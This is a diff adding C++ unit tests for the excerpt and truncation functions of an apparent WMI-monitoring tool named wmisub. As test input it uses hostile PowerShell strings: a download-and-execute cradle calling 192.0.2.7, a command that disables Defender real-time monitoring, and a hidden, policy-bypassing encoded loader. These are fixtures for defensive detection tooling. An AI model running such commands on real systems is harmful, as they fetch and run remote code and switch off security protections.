@@ -498,3 +498,91 @@ TEST_CASE("to_hex") {
     CHECK(wmisub::to_hex(bytes) == "000fa0ff");
     CHECK(wmisub::to_hex({}) == "");
 }
+
+// ---------------------------------------------------------------------------
+// Excerpts
+// ---------------------------------------------------------------------------
+
+namespace {
+
+constexpr std::string_view ellipsis = "\xE2\x80\xA6";
+
+bool is_blank(char c) { return c == ' ' || c == '\t' || c == '\n' || c == '\r'; }
+
+bool continuation(char c) { return (static_cast<unsigned char>(c) & 0xC0u) == 0x80u; }
+
+}  // namespace
+
+TEST_CASE("excerpt_at keeps a text that fits, unmarked") {
+    CHECK(wmisub::excerpt_at("cmd /c whoami", 3, 200) == "cmd /c whoami");
+    CHECK(wmisub::excerpt_of("", 10).empty());
+    const wmisub::excerpt_range r = wmisub::excerpt_range_at("abc", 1, 3);
+    CHECK(r.begin == 0);
+    CHECK(r.end == 3);
+}
+
+TEST_CASE("excerpt_at cuts between words and marks each cut") {
+    std::string text;
+    for (int i = 0; i < 60; ++i) text += "word" + std::to_string(i) + " ";
+    text += "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a') ";
+    for (int i = 0; i < 60; ++i) text += "tail" + std::to_string(i) + " ";
+    const std::size_t at = text.find("IEX");
+    const std::string e = wmisub::excerpt_at(text, at, 120);
+    REQUIRE(e.starts_with(ellipsis));
+    REQUIRE(e.ends_with(ellipsis));
+    const std::string_view body = std::string_view(e).substr(ellipsis.size(), e.size() - 2 * ellipsis.size());
+    CHECK(body.size() <= 120);
+    CHECK(body.find("IEX(New-Object") != std::string_view::npos);
+    const std::size_t begin = text.find(body);
+    REQUIRE(begin != std::string::npos);
+    CHECK(is_blank(text[begin - 1]));             // starts at a word
+    CHECK(is_blank(text[begin + body.size()]));   // ends at a word's end
+    CHECK(!is_blank(body.front()));
+    CHECK(!is_blank(body.back()));
+}
+
+TEST_CASE("excerpt_at starts at the line holding the evidence when it is close") {
+    const std::string text = std::string(300, 'x') + "\nSet-MpPreference -DisableRealtimeMonitoring $true\n" + std::string(300, 'y');
+    const std::string e = wmisub::excerpt_at(text, text.find("-Disable"), 100);
+    CHECK(e.starts_with(std::string(ellipsis) + "Set-MpPreference"));
+}
+
+TEST_CASE("excerpt_at cuts a text without words where the window ends, never inside a character") {
+    const std::string blob(1000, 'A');
+    const std::string e = wmisub::excerpt_at(blob, 500, 100);
+    CHECK(e == std::string(ellipsis) + std::string(100, 'A') + std::string(ellipsis));
+    std::string greek;
+    for (int i = 0; i < 200; ++i) greek += "\xCE\xB1";  // α, two bytes each
+    for (std::size_t max : {7u, 50u, 101u}) {
+        for (std::size_t offset : {0u, 1u, 99u, 200u, 399u, 400u}) {
+            const wmisub::excerpt_range r = wmisub::excerpt_range_at(greek, offset, max);
+            CAPTURE(max);
+            CAPTURE(offset);
+            CHECK(r.end - r.begin <= max);
+            CHECK(!continuation(greek[r.begin]));
+            if (r.end < greek.size()) CHECK(!continuation(greek[r.end]));
+        }
+    }
+}
+
+TEST_CASE("excerpt_range_at always holds the evidence and stays in bounds") {
+    const std::string text =
+        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"$s=New-Object IO.MemoryStream(,[Convert]::"
+        "FromBase64String('H4sIAAAAAAAEAL1X6XPaSBb/7Kr8D11TU4VUAYxP4lSlakBgGxtsbA5fQ7kaqQ8=='));IEX (New-Object IO."
+        "StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"";
+    for (std::size_t max : {16u, 40u, 80u, 200u}) {
+        for (std::size_t offset = 0; offset < text.size(); ++offset) {
+            const wmisub::excerpt_range r = wmisub::excerpt_range_at(text, offset, max);
+            CAPTURE(max);
+            CAPTURE(offset);
+            REQUIRE(r.begin <= r.end);
+            REQUIRE(r.end <= text.size());
+            CHECK(r.end - r.begin <= max);
+            CHECK(r.begin <= offset);
+            CHECK(offset < r.end);
+        }
+    }
+    const wmisub::excerpt_range past = wmisub::excerpt_range_at(text, text.size() + 50, 40);  // clamped
+    CHECK(past.end == text.size());
+    CHECK(wmisub::excerpt_at(text, text.size() + 50, 40).starts_with(ellipsis));
+}
